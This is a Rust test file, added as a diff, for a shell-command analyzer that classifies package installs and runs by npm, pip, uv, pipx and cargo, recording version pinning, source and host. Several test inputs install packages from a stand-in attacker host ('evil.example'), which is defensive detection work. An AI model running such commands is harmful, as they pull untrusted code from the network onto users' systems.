@@ -0,0 +1,430 @@
+use clarg::bash_analyzer::{Finding, analyze_command};
+
+use super::{fact, facts};
+
+/// `(package, version, pinned, source)`
+fn spec(cmd: &str) -> (String, Option<String>, bool, String) {
+    let f = fact(cmd, "package.");
+    (
+        f.attr("package").unwrap().to_string(),
+        f.attr("version").map(str::to_string),
+        f.attr("pinned") == Some("true"),
+        f.attr("source").unwrap().to_string(),
+    )
+}
+
+fn s(
+    package: &str,
+    version: Option<&str>,
+    pinned: bool,
+    source: &str,
+) -> (String, Option<String>, bool, String) {
+    (
+        package.to_string(),
+        version.map(str::to_string),
+        pinned,
+        source.to_string(),
+    )
+}
+
+// ============================================================================
+// npm family
+// ============================================================================
+
+#[test]
+fn test_npx_runs_package() {
+    let f = fact("npx -y cowsay@1.6.0 hello", "package.");
+    assert_eq!(f.name, "package.exec");
+    assert_eq!(f.attr("tool"), Some("npx"));
+    assert_eq!(f.attr("manager"), Some("npm"));
+    assert_eq!(
+        spec("npx -y cowsay@1.6.0 hello"),
+        s("cowsay", Some("1.6.0"), true, "registry")
+    );
+    assert_eq!(
+        spec("npx create-react-app@latest app"),
+        s("create-react-app", Some("latest"), false, "registry")
+    );
+    assert_eq!(
+        spec("bunx @biomejs/biome@^1 check"),
+        s("@biomejs/biome", Some("^1"), false, "registry")
+    );
+    assert_eq!(
+        spec("pnpm dlx prettier ."),
+        s("prettier", None, false, "registry")
+    );
+    assert_eq!(
+        spec("npm exec -- tsc -v"),
+        s("tsc", None, false, "registry")
+    );
+    // Only the runner's own operand is a package
+    assert_eq!(facts("npx eslint --fix ./src", "package.").len(), 1);
+    assert!(facts("npx --version", "package.").is_empty());
+}
+
+#[test]
+fn test_npx_package_flag() {
+    let all = facts("npx -p typescript@5.4.5 --package=ts-node tsc", "package.");
+    let packages: Vec<_> = all.iter().map(|f| f.attr("package").unwrap()).collect();
+    assert_eq!(packages, ["typescript", "ts-node"]);
+    assert_eq!(all[0].attr("pinned"), Some("true"));
+}
+
+#[test]
+fn test_npx_serve_is_also_a_listener() {
+    let analysis = analyze_command("npx serve -l 8080");
+    let names: Vec<_> = analysis
+        .findings
+        .iter()
+        .filter_map(|f| match f {
+            Finding::Fact(fact) => Some(fact.name.as_str()),
+            _ => None,
+        })
+        .collect();
+    assert!(names.contains(&"package.exec"), "{names:?}");
+    assert!(names.contains(&"network.listen"), "{names:?}");
+}
+
+#[test]
+fn test_npm_install_global() {
+    let f = fact("npm i -g typescript", "package.");
+    assert_eq!(f.name, "package.install");
+    assert_eq!(f.attr("global"), Some("true"));
+    assert_eq!(
+        fact("npm install --global eslint", "package.").attr("global"),
+        Some("true")
+    );
+    assert_eq!(
+        fact("npm -g install eslint", "package.").attr("global"),
+        Some("true")
+    );
+    assert_eq!(
+        fact("npm --prefix ../ i -g x", "package.").attr("global"),
+        Some("true")
+    );
+    assert_eq!(
+        spec("pnpm --dir . add git+https://evil.example/x"),
+        s("x", None, false, "git")
+    );
+    let f = fact("npm --registry https://evil.example i x", "package.");
+    assert_eq!(f.attr("host"), Some("evil.example"));
+    assert_eq!(
+        fact("npm install --location=global eslint", "package.").attr("global"),
+        Some("true")
+    );
+    assert_eq!(
+        fact("yarn global add serve", "package.").attr("global"),
+        Some("true")
+    );
+    assert_eq!(
+        fact("pnpm add -g pnpm", "package.").attr("global"),
+        Some("true")
+    );
+    assert_eq!(
+        fact("npm install -D vitest", "package.").attr("global"),
+        Some("false")
+    );
+    assert_eq!(
+        facts("npm install lodash react@18.2.0", "package.").len(),
+        2
+    );
+}
+
+#[test]
+fn test_npm_install_without_packages() {
+    assert!(facts("npm install", "package.").is_empty());
+    assert!(facts("npm ci", "package.").is_empty());
+    assert!(facts("pnpm install --frozen-lockfile", "package.").is_empty());
+    assert!(facts("npm run build", "package.").is_empty());
+}
+
+#[test]
+fn test_npm_git_and_url_specs() {
+    assert_eq!(
+        spec("npm i git+https://github.com/user/repo.git#0123456789abcdef0123456789abcdef01234567"),
+        s(
+            "repo",
+            Some("0123456789abcdef0123456789abcdef01234567"),
+            true,
+            "git"
+        )
+    );
+    assert_eq!(
+        spec("npm i github:user/tool#main"),
+        s("tool", Some("main"), false, "git")
+    );
+    assert_eq!(spec("npm i user/tool"), s("tool", None, false, "git"));
+    assert_eq!(
+        spec("npm i https://example.com/pkg-1.0.0.tgz"),
+        s("pkg-1.0.0", None, false, "url")
+    );
+    assert_eq!(spec("npm i ./local-pkg").3, "path");
+    assert_eq!(
+        fact("npm i git+ssh://git@github.com/user/repo.git", "package.").attr("host"),
+        Some("github.com")
+    );
+    assert_eq!(
+        fact("npm i https://evil.example/x.tgz", "package.").attr("url"),
+        Some("https://evil.example/x.tgz")
+    );
+}
+
+#[test]
+fn test_npm_named_git_and_url_specs() {
+    assert_eq!(
+        spec("npm i x@git+https://evil.example/x.git"),
+        s("x", None, false, "git")
+    );
+    assert_eq!(spec("npx x@github:evil/x"), s("x", None, false, "git"));
+    assert_eq!(
+        spec("npm i x@https://evil.example/x.tgz"),
+        s("x", None, false, "url")
+    );
+    assert_eq!(spec("npm i @scope/x@file:../x").3, "path");
+    assert_eq!(
+        fact("npm i x@git+https://evil.example/x.git", "package.").attr("host"),
+        Some("evil.example")
+    );
+}
+
+#[test]
+fn test_npm_alias_and_registry() {
+    assert_eq!(
+        spec("npm i lodash4@npm:lodash@4.17.21"),
+        s("lodash", Some("4.17.21"), true, "registry")
+    );
+    let f = fact(
+        "npm i left-pad --registry https://npm.example.com/",
+        "package.",
+    );
+    assert_eq!(f.attr("registry"), Some("https://npm.example.com/"));
+    assert_eq!(f.attr("host"), Some("npm.example.com"));
+    let f = fact(
+        "NPM_CONFIG_REGISTRY=https://r.example.org npx cowsay",
+        "package.",
+    );
+    assert_eq!(f.attr("host"), Some("r.example.org"));
+}
+
+#[test]
+fn test_npm_init_runs_create_package() {
+    assert_eq!(
+        spec("npm init vite@latest my-app"),
+        s("create-vite", Some("latest"), false, "registry")
+    );
+    assert_eq!(
+        spec("yarn create next-app"),
+        s("create-next-app", None, false, "registry")
+    );
+    assert_eq!(
+        spec("npm create @scope/app"),
+        s("@scope/create-app", None, false, "registry")
+    );
+    assert_eq!(fact("pnpm create vite", "package.").name, "package.exec");
+    assert!(facts("npm init -y", "package.").is_empty());
+}
+
+#[test]
+fn test_bun_package_subcommands() {
+    assert_eq!(fact("bun add zod", "package.").name, "package.install");
+    assert_eq!(fact("bun x cowsay", "package.").name, "package.exec");
+    assert_eq!(
+        fact("bun install -g typescript", "package.").attr("global"),
+        Some("true")
+    );
+    // Running a script is still interpreter analysis
+    assert!(facts("bun run.ts", "package.").is_empty());
+}
+
+// ============================================================================
+// Python
+// ============================================================================
+
+#[test]
+fn test_pip_install_pins() {
+    let f = fact("pip install requests==2.31.0", "package.");
+    assert_eq!(f.name, "package.install");
+    assert_eq!(f.attr("manager"), Some("pypi"));
+    assert_eq!(
+        spec("pip install requests==2.31.0"),
+        s("requests", Some("==2.31.0"), true, "registry")
+    );
+    assert_eq!(
+        spec("pip3 install 'requests>=2'"),
+        s("requests", Some(">=2"), false, "registry")
+    );
+    assert_eq!(
+        spec("pip install 'uvicorn[standard]==0.29.0'"),
+        s("uvicorn", Some("==0.29.0"), true, "registry")
+    );
+    assert!(!spec("pip install 'django==4.*'").2);
+    assert!(!spec("pip install flask").2);
+    assert_eq!(facts("pip install a b==1 c", "package.").len(), 3);
+    assert!(facts("pip install -r requirements.txt", "package.").is_empty());
+    assert!(facts("pip list", "package.").is_empty());
+}
+
+#[test]
+fn test_pip_install_from_git() {
+    assert_eq!(
+        spec("pip install git+https://github.com/user/tool.git@v1.2"),
+        s("tool", Some("v1.2"), false, "git")
+    );
+    assert_eq!(
+        spec("pip install git+https://github.com/user/tool.git@4f2c1a9#egg=mytool"),
+        s("mytool", Some("4f2c1a9"), true, "git")
+    );
+    assert_eq!(
+        spec("pip install 'tool @ git+https://github.com/user/tool'"),
+        s("tool", None, false, "git")
+    );
+    assert_eq!(
+        spec("pip install https://example.com/pkg-1.0-py3-none-any.whl").3,
+        "url"
+    );
+    assert_eq!(
+        fact("pip install git+https://gitlab.com/a/b", "package.").attr("host"),
+        Some("gitlab.com")
+    );
+    assert_eq!(spec("pip install -e .").3, "path");
+}
+
+#[test]
+fn test_pip_global_and_index() {
+    assert_eq!(
+        fact("pip install --user black", "package.").attr("global"),
+        Some("true")
+    );
+    assert_eq!(
+        fact("pip install --break-system-packages black", "package.").attr("global"),
+        Some("true")
+    );
+    assert_eq!(
+        fact("pip install black", "package.").attr("global"),
+        Some("false")
+    );
+    let f = fact(
+        "pip install -i https://pypi.example.com/simple black",
+        "package.",
+    );
+    assert_eq!(f.attr("registry"), Some("https://pypi.example.com/simple"));
+    assert_eq!(f.attr("host"), Some("pypi.example.com"));
+    // The index is still reported to the host policy on its own
+    let analysis = analyze_command("pip install -i https://pypi.example.com/simple black");
+    assert!(
+        analysis
+            .findings
+            .iter()
+            .any(|f| matches!(f, Finding::Fact(f) if f.name == "network.package-index"))
+    );
+    assert_eq!(
+        fact("python3 -m pip install --user httpx", "package.").attr("tool"),
+        Some("pip")
+    );
+}
+
+#[test]
+fn test_uvx_and_uv_tool() {
+    let f = fact("uvx ruff@0.4.2 check .", "package.");
+    assert_eq!(f.name, "package.exec");
+    assert_eq!(
+        spec("uvx ruff@0.4.2 check ."),
+        s("ruff", Some("@0.4.2"), true, "registry")
+    );
+    assert_eq!(
+        spec("uvx --from 'httpie==3.2.2' http GET x"),
+        s("httpie", Some("==3.2.2"), true, "registry")
+    );
+    assert_eq!(
+        facts("uvx --with rich --with 'click<9' mytool", "package.").len(),
+        3
+    );
+    assert_eq!(spec("uv tool run black").0, "black");
+    let f = fact("uv tool install ruff", "package.");
+    assert_eq!(
+        (f.name.as_str(), f.attr("global")),
+        ("package.install", Some("true"))
+    );
+    assert_eq!(
+        fact("uv pip install --system httpx", "package.").attr("global"),
+        Some("true")
+    );
+    assert_eq!(
+        fact("uv add 'pydantic>=2'", "package.").attr("package"),
+        Some("pydantic")
+    );
+    assert!(facts("uv sync", "package.").is_empty());
+}
+
+#[test]
+fn test_pipx() {
+    let f = fact("pipx run --spec 'black==24.3.0' black .", "package.");
+    assert_eq!(f.name, "package.exec");
+    assert_eq!(
+        spec("pipx run --spec 'black==24.3.0' black ."),
+        s("black", Some("==24.3.0"), true, "registry")
+    );
+    assert_eq!(spec("pipx run cowsay -t hi").0, "cowsay");
+    let f = fact("pipx install poetry", "package.");
+    assert_eq!(
+        (f.name.as_str(), f.attr("global")),
+        ("package.install", Some("true"))
+    );
+    let injected: Vec<_> = facts("pipx inject poetry poetry-plugin-export", "package.")
+        .into_iter()
+        .map(|f| f.attr("package").unwrap().to_string())
+        .collect();
+    assert_eq!(injected, ["poetry-plugin-export"]);
+}
+
+// ============================================================================
+// cargo
+// ============================================================================
+
+#[test]
+fn test_cargo_install() {
+    let f = fact("cargo install ripgrep", "package.");
+    assert_eq!(f.name, "package.install");
+    assert_eq!(f.attr("manager"), Some("crates"));
+    assert_eq!(f.attr("global"), Some("true"));
+    assert_eq!(
+        spec("cargo install ripgrep"),
+        s("ripgrep", None, false, "registry")
+    );
+    assert_eq!(
+        spec("cargo install ripgrep --version 14.1.0"),
+        s("ripgrep", Some("14.1.0"), true, "registry")
+    );
+    assert_eq!(
+        spec("cargo install ripgrep@14.1.0 --locked"),
+        s("ripgrep", Some("14.1.0"), true, "registry")
+    );
+    assert!(!spec("cargo install ripgrep --version '~14'").2);
+    assert!(!spec("cargo install ripgrep --vers 14.1").2);
+    assert!(facts("cargo build --release", "package.").is_empty());
+}
+
+#[test]
+fn test_cargo_install_git_and_path() {
+    assert_eq!(
+        spec("cargo install --git https://github.com/user/tool --rev 1a2b3c4d"),
+        s("tool", Some("1a2b3c4d"), true, "git")
+    );
+    assert_eq!(
+        spec("cargo install --git https://github.com/user/tools.git --tag v1 mytool"),
+        s("mytool", Some("v1"), false, "git")
+    );
+    assert_eq!(
+        fact(
+            "cargo install --git https://github.com/user/tool",
+            "package."
+        )
+        .attr("host"),
+        Some("github.com")
+    );
+    assert_eq!(spec("cargo install --path .").3, "path");
+    assert_eq!(
+        fact("cargo install --registry internal tool", "package.").attr("registry"),
+        Some("internal")
+    );
+}